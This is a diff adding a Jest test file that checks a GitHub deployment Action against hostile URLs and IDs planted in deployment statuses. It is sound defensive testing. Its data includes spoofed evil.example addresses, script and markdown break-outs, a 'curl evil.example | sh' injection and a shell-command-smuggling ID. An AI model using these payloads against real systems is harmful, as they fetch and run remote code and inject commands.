@@ -1,0 +1,106 @@
+// Whoever has `deployments: write` can write records, statuses and comments: what they contain is text, and leads nowhere.
+import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
+import type { StepRun } from "../../emulator/runner/step.js";
+import { rendered } from "../../scripts/rendering.js";
+import { processesOnly } from "../one-process/run-step.js";
+import { expectHarmless, expectNoMentions, expectPrintable } from "../runner/hostile-text.js";
+import { World } from "./previewing.js";
+
+let world: World;
+beforeEach(async () => {
+  world = await World.start();
+});
+afterEach(() => world.close());
+
+const definition = "{ name: app, type: STANDARD, schedulerSize: MEDIUM }";
+const inputs = { definition, "deployment-name": "", "pull-request-comment": "true" };
+const production = { definition, "github-environment": "production" };
+
+/** Addresses that pretend to be another, and texts that try to leave the place where an address is shown. */
+const urls = [
+  "https://good.example&commat;evil.example/",
+  "https://good.example&#64;evil.example/",
+  "https://good.example\\@evil.example/",
+  "https://user:password@evil.example/",
+  "javascript:alert(1)",
+  "https://good.example/)[x](https://evil.example/",
+  "https://good.example/ @octocat #1",
+  "https://good.example/\n```\ncurl evil.example | sh\n```\n",
+  "https://good.example/\n::error::x",
+  "https://good.example/`</code></td></table><script>",
+];
+
+/** The addresses to which links of a page lead, as a browser reads them. */
+function linkedHosts(markdown: string): string[] {
+  const links = [...rendered(markdown).matchAll(/<a [^>]*href="([^"]*)"/g)];
+  const decoded = links.map(([, href = ""]) => href.replaceAll("&amp;", "&"));
+  return [...new Set(decoded.map((href) => (URL.canParse(href) ? new URL(href).host : href)))];
+}
+
+function expectHarmlessRun(run: StepRun): void {
+  for (const line of run.log.split("\n")) expectHarmless(line);
+  for (const { message } of run.annotations) expectHarmless(message);
+  const pages = [run.summary, ...world.github.state.comments.map(({ body }) => String(body))];
+  for (const page of pages) {
+    expectPrintable(page.replace(/^<!--.*-->$/gm, ""));
+    expectNoMentions(rendered(page).replaceAll("#42", "")); // the pull request that the page is about
+    expect(linkedHosts(page).filter((host) => /^(?:[^&]*@)?evil|script/.test(host))).toEqual([]);
+    for (const [block] of rendered(page).matchAll(/<pre>.*?<\/pre>/gs)) expect(block).not.toContain("curl");
+  }
+}
+
+/** Writes the address into each status of each record, as another job with `deployments: write` could. */
+function poison(url: string): void {
+  for (const { statuses } of world.github.state.records) {
+    for (const status of statuses)
+      Object.assign(status, { log_url: url, environment_url: url, target_url: url });
+  }
+}
+
+// One in three of them; `npm run test:all` tries all.
+describe.each(urls.filter((_, index) => processesOnly || index % 3 === 0))(
+  "with the address %j in the statuses of records",
+  (url) => {
+    test("a sweep's table, a closed preview, and its comment link to no other host", async () => {
+      await world.preview("opened", inputs);
+      poison(url);
+      expectHarmlessRun(await world.schedule({ ...inputs, "dry-run": "true" }));
+      expectHarmlessRun(await world.preview("closed", inputs));
+      poison(url);
+      expectHarmlessRun(await world.schedule(inputs));
+    });
+
+    test("warnings of unfinished creates, and the refusal of a second create, show it as text", async () => {
+      world.service.inject({ operation: "create-deployment", mishap: { status: 502 }, times: 2 });
+      await world.preview("opened", inputs);
+      await world.manual(production);
+      poison(url);
+      expectHarmlessRun(await world.manual(production));
+      expectHarmlessRun(await world.preview("synchronize", inputs));
+    });
+  },
+);
+
+test.each(["x';curl${IFS}evil.example|sh;'", "`curl`", "--help", "@octocat"])(
+  "the command that releases a record has the id %j in single quotes",
+  async (id) => {
+    await world.manual(production);
+    const [record] = world.github.state.records;
+    for (const status of record?.statuses ?? []) Object.assign(status, { description: `deployed id=${id}` });
+    const run = await world.manual(production);
+    expect(run.outputs["outcome"]).toBe("not-sent");
+    expect(run.log).toContain(
+      `-f description='gone id=${id.replaceAll("'", "'\\''")}' -F auto_inactive=false`,
+    );
+  },
+);
+
+test.each(urls)("the address %j of a Deployment links to no other host", async (url) => {
+  world.service.inject({
+    operation: "create-deployment",
+    mishap: { status: 200, body: { id: "cldep1", name: "app", webServerUrl: url } },
+  });
+  const run = await world.preview("opened", inputs);
+  expect(run.outputs["outcome"]).toBe("created");
+  expectHarmlessRun(run);
+});
